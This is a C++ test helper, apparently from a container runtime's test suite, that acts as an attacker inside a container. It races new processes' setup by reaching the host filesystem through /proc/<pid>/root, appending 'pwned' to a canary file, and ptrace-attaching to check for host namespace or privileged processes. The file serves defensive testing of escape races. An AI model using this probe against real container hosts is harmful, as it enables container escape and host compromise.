// Test helper (static, runs inside a container with CAP_SYS_PTRACE): the attacker that races
// a runtime's process setup. `proc-root-watcher CANARY RESULT STOP HOST_MNTNS HOST_ROOT`
// (HOST_MNTNS: the host's /proc/self/ns/mnt link text, HOST_ROOT: "dev:ino" of the host's /,
// both given by the test) watches the container's
// /proc for new pids (it predicts the next pids and rescans /proc now and then) and, for each
// new process, as often as it can while the process lives (up to a bound):
//   - opens /proc/<pid>/root/CANARY for reading and for writing (CANARY is a host path that
//     does not exist in the container: success means the process's root is the host's; a
//     write also appends "pwned" to it),
//   - PTRACE_SEIZE + PTRACE_INTERRUPT (the access check of PTRACE_ATTACH), then, stopped,
//     checks whether the tracee is in the host's mount namespace or has the host's root
//     directory, and whether it has effective capabilities outside the watcher's own
//     bounding set (either: a host process, or a privileged one, that the container now
//     controls), and detaches.
// It stops when the file STOP exists and writes one line of counters to RESULT:
//   seen=N reads=N writes=N attached=N attached_host=N attached_privileged=N
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

const char* g_canary;
const char* g_host_mntns;
unsigned long long g_host_dev, g_host_ino;
unsigned long long g_bounding;

int g_seen, g_reads, g_writes, g_attached, g_attached_host, g_attached_privileged;
constexpr int kMaxPid = 1 << 22;
bool g_done[kMaxPid];

unsigned long long status_hex(int pid, const char* field) {
    char path[64];
    (void)std::snprintf(path, sizeof path, pid ? "/proc/%d/status" : "/proc/self/status", pid);
    FILE* f = std::fopen(path, "re");
    if (!f) return 0;
    char line[512];
    unsigned long long v = 0;
    size_t len = std::strlen(field);
    while (std::fgets(line, sizeof line, f))
        if (std::strncmp(line, field, len) == 0) v = std::strtoull(line + len, nullptr, 16);
    (void)std::fclose(f);
    return v;
}

bool proc_exists(int pid) {
    char path[64];
    (void)std::snprintf(path, sizeof path, "/proc/%d", pid);
    struct stat st {};
    return ::stat(path, &st) == 0;
}

// One round of the file attack; true when the process exists.
bool try_files(int pid) {
    char path[4200];
    (void)std::snprintf(path, sizeof path, "/proc/%d/root%s", pid, g_canary);
    int fd = ::open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        ++g_reads;
        ::close(fd);
    }
    fd = ::open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
        ++g_writes;
        (void)!::write(fd, "pwned\n", 6);
        ::close(fd);
    }
    return fd >= 0 || proc_exists(pid);
}

void try_ptrace(int pid) {
    if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return;
    ++g_attached;
    if (::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) == 0) {
        int status = 0;
        while (::waitpid(pid, &status, __WALL) < 0 && errno == EINTR) {
        }
    }
    char path[64], link[64] = {};
    (void)std::snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    ssize_t n = ::readlink(path, link, sizeof link - 1);
    (void)std::snprintf(path, sizeof path, "/proc/%d/root/", pid);
    struct stat root {};
    bool host = false;
    if (n > 0 && std::strcmp(link, g_host_mntns) == 0) host = true;
    if (::stat(path, &root) == 0 && root.st_dev == g_host_dev && root.st_ino == g_host_ino)
        host = true;
    if (host) ++g_attached_host;
    unsigned long long eff = status_hex(pid, "CapEff:");
    if (eff & ~g_bounding) ++g_attached_privileged;
    ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
}

// Every attack on a new pid, repeated while it lives (its setup is the window), bounded.
void attack(int pid) {
    if (pid <= 1 || pid >= kMaxPid || g_done[pid] || pid == ::getpid()) return;
    if (!try_files(pid)) return;  // not (yet) a process
    g_done[pid] = true;
    ++g_seen;
    try_ptrace(pid);
    for (int i = 0; i < 200 && try_files(pid); ++i)
        if (i % 20 == 0) try_ptrace(pid);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 6 || std::sscanf(argv[5], "%llu:%llu", &g_host_dev, &g_host_ino) != 2) {
        (void)std::fprintf(stderr,
                           "usage: proc-root-watcher CANARY RESULT STOP HOST_MNTNS DEV:INO\n");
        return 2;
    }
    g_canary = argv[1];
    g_host_mntns = argv[4];
    g_bounding = status_hex(0, "CapBnd:");
    int next = 2;
    for (unsigned long round = 0; access(argv[3], F_OK) != 0; ++round) {
        for (int p = next; p < next + 4 && p < kMaxPid; ++p) attack(p);
        while (next < kMaxPid - 1 && g_done[next]) ++next;
        if (round % 64 == 0) {
            if (DIR* d = ::opendir("/proc")) {
                while (dirent* e = ::readdir(d)) {
                    int pid = std::atoi(e->d_name);
                    if (pid <= 1 || pid >= kMaxPid) continue;
                    attack(pid);
                    if (pid >= next && g_done[pid]) next = pid + 1;
                }
                ::closedir(d);
            }
        }
    }
    FILE* f = std::fopen(argv[2], "we");
    if (!f) return 1;
    (void)std::fprintf(
        f, "seen=%d reads=%d writes=%d attached=%d attached_host=%d attached_privileged=%d\n",
        g_seen, g_reads, g_writes, g_attached, g_attached_host, g_attached_privileged);
    (void)std::fclose(f);
    return 0;
}
